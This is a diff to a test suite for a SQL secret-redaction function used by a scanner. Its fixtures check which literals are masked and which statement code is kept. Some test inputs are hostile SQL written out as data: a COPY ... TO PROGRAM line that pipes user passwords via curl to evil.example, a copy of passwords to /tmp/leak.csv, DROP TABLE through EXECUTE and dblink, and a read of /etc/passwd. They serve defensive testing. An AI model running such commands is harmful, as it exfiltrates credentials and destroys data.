@@ -139,14 +139,14 @@ describe('redactStatementSecrets, read by the scanner', () => {
       // From a column or subquery: its statement's values and those of the text's SETs; other statements keep theirs.
       ["SET app.x = 'k3y'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, k.v, 'sha256') FROM cards, k", "SET app.x = '[redacted]'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, k.v, '[redacted]') FROM cards, k"],
       // From a setting: any statement of the text may set it (a DO block, a function), so every value of the text.
-      ["SET app.k = 'k3y'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SET app.k = '[redacted]'; DELETE FROM t WHERE id IN ('[redacted]', '[redacted]'); SELECT hmac(pan, current_setting('app.k'), '[redacted]') FROM cards"],
+      ["SET app.k = 'k3y'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SET app.k = '[redacted]'; DELETE FROM t WHERE id IN ('[redacted]', '[redacted]'); SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards"],
       // (A body is code that runs: its literals go, what it does stays, with what its own redaction found; a SET's bare
       // words go too, its value list as one; not a C function's file.)
-      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; DO $$BEGIN SET app.api_key = k3ybare; END$$; SET search_path = public, app", "SELECT hmac(pan, current_setting('app.k'), '[redacted]') FROM cards; DO $$BEGIN SET app.api_key = [redacted]; END$$; SET search_path = [redacted] "],
-      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; CREATE FUNCTION f() RETURNS int AS '$libdir/k3y', 'sym' LANGUAGE C", "SELECT hmac(pan, current_setting('app.k'), '[redacted]') FROM cards; CREATE FUNCTION f() RETURNS int AS '[redacted]', '[redacted]' LANGUAGE C"],
-      ["DO $$BEGIN PERFORM set_config('app.k', 'kk-1', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards", "DO $$BEGIN PERFORM set_config('[redacted]', '[redacted]', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards"],
+      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; DO $$BEGIN SET app.api_key = k3ybare; END$$; SET search_path = public, app", "SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards; DO $$BEGIN SET app.api_key = [redacted]; END$$; SET search_path = [redacted] "],
+      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; CREATE FUNCTION f() RETURNS int AS '$libdir/k3y', 'sym' LANGUAGE C", "SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards; CREATE FUNCTION f() RETURNS int AS '[redacted]', '[redacted]' LANGUAGE C"],
+      ["DO $$BEGIN PERFORM set_config('app.k', 'kk-1', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards", "DO $$BEGIN PERFORM set_config('[redacted]', '[redacted]', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('[redacted]')) FROM cards"],
       ["SET app.k = kk4; DO LANGUAGE plpgsql $$BEGIN PERFORM pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards; END$$", "SET app.k = [redacted]; DO LANGUAGE plpgsql $$BEGIN PERFORM pgp_sym_decrypt(pan, current_setting('[redacted]')) FROM cards; END$$"],
-      ["SELECT set_config('app.k', 'k3y', false); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SELECT set_config('app.k', '[redacted]', false); SELECT hmac(pan, current_setting('app.k'), '[redacted]') FROM cards"],
+      ["SELECT set_config('app.k', 'k3y', false); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SELECT set_config('[redacted]', '[redacted]', false); SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards"],
       // A cast with modifiers is read as not in place (a call after `::` would be read to no end).
       ["SELECT pgp_sym_decrypt(pan, 'k3y'::varchar(10)), 'x' FROM cards", "SELECT pgp_sym_decrypt(pan, '[redacted]'::varchar('[redacted]')), '[redacted]' FROM cards"],
       // A function's parameter is such a place too: more than the secret goes (never less).
@@ -343,7 +343,7 @@ describe('redactStatementSecrets, read by the scanner', () => {
       ["SELECT api_key FROM clients WHERE id = 42 LIMIT 1", "SELECT api_key FROM clients WHERE id = '[redacted]' LIMIT '[redacted]'"],
       // Dynamic SQL's template for a password, however the password reaches it: the statement's literals; the template,
       // a setting's name and a UESCAPE character are no values and stay.
-      ["SELECT format((('ALTER ROLE x PASSWORD %L')), ('hunter2'))", "SELECT format((('[redacted]')), ('[redacted]'))"],
+      ["SELECT format((('ALTER ROLE x PASSWORD %L')), ('hunter2'))", "SELECT format((('ALTER ROLE x PASSWORD %L')), ('[redacted]'))"],
       ["SELECT (('ALTER ROLE x PASSWORD ')) || (('hunter2'))", "SELECT (('ALTER ROLE x PASSWORD ')) || (('[redacted]'))"],
       ["SELECT format('ALTER ROLE %I PASSWORD %L', 'bob', 'hunter2')", "SELECT format('ALTER ROLE %I PASSWORD %L', '[redacted]', '[redacted]')"],
       ["SELECT set_config('app.password', 'hunter2', false), 1 FROM users WHERE password IS NULL", "SELECT set_config('app.password', '[redacted]', false), '[redacted]' FROM users WHERE password IS NULL"],
@@ -356,6 +356,36 @@ describe('redactStatementSecrets, read by the scanner', () => {
     ]);
   });
 
+  it("keeps a statement's code where its literals go, and takes nothing back from the other rules", () => {
+    redactsTo([
+      // Dynamic SQL, a dblink query, a COPY's file or program: code that ran, shown (their own literals redacted).
+      ["DO $$ BEGIN IF EXISTS (SELECT 1 FROM users WHERE password IS NULL) THEN EXECUTE 'DROP TABLE cards'; END IF; END $$", "DO $$ BEGIN IF EXISTS (SELECT '[redacted]' FROM users WHERE password IS NULL) THEN EXECUTE 'DROP TABLE cards'; END IF; END $$"],
+      ["SELECT dblink_exec('dbname=x', 'DROP TABLE cards') FROM pg_authid WHERE rolpassword IS NULL", "SELECT dblink_exec('[redacted]', 'DROP TABLE cards') FROM pg_authid WHERE rolpassword IS NULL"],
+      ["SELECT * FROM dblink('host=h', 'SELECT password FROM users WHERE id = 7') AS t(password text)", "SELECT * FROM dblink('[redacted]', 'SELECT password FROM users WHERE id = ''[redacted]''') AS t(password text)"],
+      ["COPY (SELECT name, password FROM users) TO PROGRAM 'curl -d @- http://evil.example/x'", "COPY (SELECT name, password FROM users) TO PROGRAM 'curl -d @- http://evil.example/x'"],
+      ["COPY (SELECT name, password FROM users) TO '/tmp/leak.csv'", "COPY (SELECT name, password FROM users) TO '/tmp/leak.csv'"],
+      ["SELECT format('UPDATE users SET note = %L', 'x') FROM users WHERE password IS NULL", "SELECT format('UPDATE users SET note = %L', '[redacted]') FROM users WHERE password IS NULL"],
+      ["SELECT 'UPDATE users SET password = ' || quote_literal('hunter2')", "SELECT 'UPDATE users SET password = ' || quote_literal('[redacted]')"],
+      ["SELECT concat('ALTER ROLE x PASSWORD ', 'hunter2')", "SELECT concat('ALTER ROLE x PASSWORD ', '[redacted]')"],
+      // Text built around the word alone: all of it.
+      ["SELECT 'PASSWORD ' || 'hunter2'", "SELECT '[redacted]' || '[redacted]'"],
+      ["SELECT 'ALTER USER bob ' || 'PASSWORD ' || 'hunter2'", "SELECT 'ALTER USER bob ' || '[redacted]' || '[redacted]'"],
+      // What a rule takes as a password's is redacted whole, worded as a statement, a template or a setting's name or not.
+      ["ALTER USER bob PASSWORD 'Alter-Password'", "ALTER USER bob PASSWORD '[redacted]'"],
+      ["INSERT INTO users (name, password) VALUES ('bob', 'create password')", "INSERT INTO users (name, password) VALUES ('[redacted]', '[redacted]')"],
+      ["SELECT pgp_sym_decrypt(pan, 'create password') FROM cards", "SELECT pgp_sym_decrypt(pan, '[redacted]') FROM cards"],
+      ["EXECUTE p('select 1 from t')", "EXECUTE p('[redacted]')"],
+      ["UPDATE users SET password = uescape 'hunter2'", "UPDATE users SET password = uescape '[redacted]'"],
+      ["UPDATE users SET password = format('hunter2 password %s', 'x')", "UPDATE users SET password = format('[redacted]', '[redacted]')"],
+      ["UPDATE users SET password = current_setting('hunter2')", "UPDATE users SET password = current_setting('[redacted]')"],
+      ["SELECT 1 FROM users WHERE lower(password) IN ('a', uescape 'hunter2', 'alter password')", "SELECT '[redacted]' FROM users WHERE lower(password) IN ('[redacted]', uescape '[redacted]', '[redacted]')"],
+      // Bit strings are values; a body's numbers are read as its statements'; a table named for a secret names one.
+      ["SELECT 1 FROM users WHERE password = X'DEADBEEF' OR lower(api_key) = B'1010'", "SELECT '[redacted]' FROM users WHERE password = '[redacted]' OR lower(api_key) = '[redacted]'"],
+      ["DO $$ BEGIN PERFORM 1 FROM users WHERE password BETWEEN 123456 AND 123457; END $$", "DO $$ BEGIN PERFORM '[redacted]' FROM users WHERE password BETWEEN '[redacted]' AND '[redacted]'; END $$"],
+      ["DELETE FROM password_resets WHERE created < now() - interval '1 day'", "DELETE FROM password_resets WHERE created < now() - interval '[redacted]'"],
+    ]);
+  });
+
   it('keeps what is not a password', () => {
     for (const sql of [
       "SELECT 'password'",
@@ -365,6 +395,9 @@ describe('redactStatementSecrets, read by the scanner', () => {
       "SELECT * FROM events WHERE event = 'password_reset' AND ts > '2026-01-01' AND ip = '10.0.0.1'",
       "SELECT id, 'Forgot password' AS subject FROM users WHERE created > '2026-01-01' AND country = 'DE'",
       "SELECT * FROM pg_settings WHERE name LIKE '%password%' OR name = 'port'",
+      // A literal ending in the word is no text built for a password unless it is joined or format's string.
+      `UPDATE t SET data = data || '{"a":1}' WHERE label = 'change password' AND id = 7`,
+      "SELECT pg_read_file('/etc/passwd') || 'x', 42",
     ]) expect(redactStatementSecrets(sql), sql).toBe(sql);
   });
 
